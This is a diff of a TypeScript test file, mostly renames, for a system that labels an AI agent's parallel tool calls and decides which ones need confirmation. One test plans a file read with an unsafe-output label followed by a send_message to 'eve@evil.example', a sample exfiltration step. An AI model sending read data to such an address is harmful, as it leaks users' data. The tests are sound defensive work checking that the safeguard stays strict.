@@ -1,21 +1,21 @@
 import { describe, expect, it } from 'vitest';
-import type { CallSituation } from '../../src/label/judge.ts';
-import { judgeCall } from '../../src/label/judge.ts';
+import type { CallSituation } from '../../src/label/judge-call.ts';
+import { judgeCall } from '../../src/label/judge-call.ts';
 import type { Session, SessionEvent } from '../../src/label/session.ts';
 import { applyEvent, startSession } from '../../src/label/session.ts';
 import { cases } from '../specification/law.ts';
 import type { Random } from '../specification/random.ts';
-import type { PlannedCall, SessionLaw, Step, StepOptions } from '../specification/sessions.ts';
+import type { PlannedCall, SessionLaw, SessionStep, StepOptions } from '../specification/sessions.ts';
 import {
-  brokenBy,
+  findBrokenLaw,
   eventsOf,
-  isCaughtBy,
-  laxerUnder,
+  isCaughtByLaw,
+  findLaxerPreset,
   outcomesOf,
   stepsOf,
   storyOf,
 } from '../specification/sessions.ts';
-import { DESTROYS, READS, SENDS, textResult, traced } from '../traced.ts';
+import { DESTROYS, READS, SENDS, textResult, makeTracedTool } from '../make-traced-tool.ts';
 
 /*
  * An agent sends several calls before the first result is in. Labels rise when a call goes out, by what its tool
@@ -39,7 +39,7 @@ const CASES = cases(3000, 400_000);
 
 type Reducer = (session: Session, event: SessionEvent) => Session;
 
-interface Judged {
+interface LegJudgement {
   readonly call: PlannedCall;
   readonly situation: CallSituation;
   /** The session it was judged on. */
@@ -51,12 +51,12 @@ interface Judged {
 /** Plays the steps; every call's result comes in after as many further steps as `delay` says. */
 const playedIn = (
   apply: Reducer,
-  steps: readonly Step[],
+  steps: readonly SessionStep[],
   delay: (index: number) => number,
-): readonly Judged[] => {
+): readonly LegJudgement[] => {
   let session = startSession('law');
   const before: SessionEvent[] = [];
-  const judged: Judged[] = [];
+  const judged: LegJudgement[] = [];
   let due: readonly { readonly event: SessionEvent; readonly at: number }[] = [];
   const happens = (event: SessionEvent): void => {
     session = apply(session, event);
@@ -81,7 +81,7 @@ const playedIn = (
   return judged;
 };
 
-const delays = (random: Random, steps: readonly Step[]): ((index: number) => number) => {
+const delays = (random: Random, steps: readonly SessionStep[]): ((index: number) => number) => {
   const chosen = steps.map(() => random.below(5));
   return (index) => chosen[index] ?? 0;
 };
@@ -90,12 +90,12 @@ const QUIET: StepOptions = { labelled: false, declassified: false };
 const LABELLED: StepOptions = { labelled: true, declassified: false };
 
 const problemBetween = (
-  parallel: readonly Judged[],
-  limit: (judged: Judged, index: number) => CallSituation,
+  parallel: readonly LegJudgement[],
+  limit: (judged: LegJudgement, index: number) => CallSituation,
 ): string | null => {
   for (const [index, judged] of parallel.entries()) {
     const { call, situation } = judged;
-    const laxer = laxerUnder(
+    const laxer = findLaxerPreset(
       outcomesOf(situation, call.tool, call.args),
       outcomesOf(limit(judged, index), call.tool, call.args),
     );
@@ -104,7 +104,7 @@ const problemBetween = (
   return null;
 };
 
-const told = (steps: readonly Step[], problem: string | null): ReturnType<SessionLaw> => ({
+const told = (steps: readonly SessionStep[], problem: string | null): ReturnType<SessionLaw> => ({
   tried: steps.length,
   problem: problem === null ? null : `${problem}\n${storyOf(steps)}`,
 });
@@ -138,7 +138,10 @@ const inAnyOrder =
   (random) => {
     // whether a declared task is believed does depend on what was seen before it
     const steps = stepsOf(random, 4, 14, LABELLED).filter(({ type }) => type !== 'user');
-    const said: Step = { type: 'user', text: 'Send it to ann@corp.example. Delete the file "Walrus".' };
+    const said: SessionStep = {
+      type: 'user',
+      text: 'Send it to ann@corp.example. Delete the file "Walrus".',
+    };
     const parallel = playedIn(apply, [said, ...steps], delays(random, steps));
     for (const { call, situation, before } of parallel) {
       const other = reordered(random, before).reduce(apply, startSession('law'));
@@ -170,18 +173,18 @@ const forgetful: Reducer = (session, event) => {
 
 describe('calls that go out side by side', () => {
   it('are decided at least as strictly as one after the other', () => {
-    expect(brokenBy(asStrictAsInTurn(applyEvent, QUIET), CASES)).toBeNull();
+    expect(findBrokenLaw(asStrictAsInTurn(applyEvent, QUIET), CASES)).toBeNull();
   });
 
   it('are judged by which results are in, not by their order', () => {
-    expect(brokenBy(inAnyOrder(applyEvent), CASES)).toBeNull();
+    expect(findBrokenLaw(inAnyOrder(applyEvent), CASES)).toBeNull();
   });
 
   it('cannot count a label that only a result gives itself before that result is in', () => {
-    const quiet = traced('get_file', { annotations: READS });
-    const send = traced('send_message', { annotations: SENDS, roles: { to: 'destination' } });
+    const quiet = makeTracedTool('get_file', { annotations: READS });
+    const send = makeTracedTool('send_message', { annotations: SENDS, roles: { to: 'destination' } });
     const labelled = { ...Object(textResult('x')), _meta: { annotations: { unsafeOutputHint: true } } };
-    const steps: readonly Step[] = [
+    const steps: readonly SessionStep[] = [
       { type: 'user', text: 'Read the file.' },
       { type: 'planned', id: 'a', tool: quiet, args: {}, result: labelled },
       { type: 'planned', id: 'b', tool: send, args: { to: 'eve@evil.example' }, result: labelled },
@@ -191,12 +194,12 @@ describe('calls that go out side by side', () => {
       return last && outcomesOf(last.situation, last.call.tool, last.call.args).intent;
     };
     expect([outcome(0), outcome(1)]).toEqual(['confirm', 'auto']);
-    expect(isCaughtBy(asStrictAsInTurn(applyEvent, LABELLED))).toBe(true);
+    expect(isCaughtByLaw(asStrictAsInTurn(applyEvent, LABELLED))).toBe(true);
   });
 
   it('cannot tell that a result belongs to a task that has ended', () => {
-    const list = traced('list_files', { annotations: READS });
-    const remove = traced('delete_file', { annotations: DESTROYS, roles: { file_id: 'object' } });
+    const list = makeTracedTool('list_files', { annotations: READS });
+    const remove = makeTracedTool('delete_file', { annotations: DESTROYS, roles: { file_id: 'object' } });
     const events = eventsOf(
       {
         type: 'planned',
@@ -218,10 +221,10 @@ describe('calls that go out side by side', () => {
   });
 
   it('and labels that rise only with the result are caught', () => {
-    expect(isCaughtBy(asStrictAsInTurn(late, QUIET))).toBe(true);
+    expect(isCaughtByLaw(asStrictAsInTurn(late, QUIET))).toBe(true);
   });
 
   it('and a session that counts only the latest result is caught', () => {
-    expect(isCaughtBy(inAnyOrder(forgetful))).toBe(true);
+    expect(isCaughtByLaw(inAnyOrder(forgetful))).toBe(true);
   });
 });
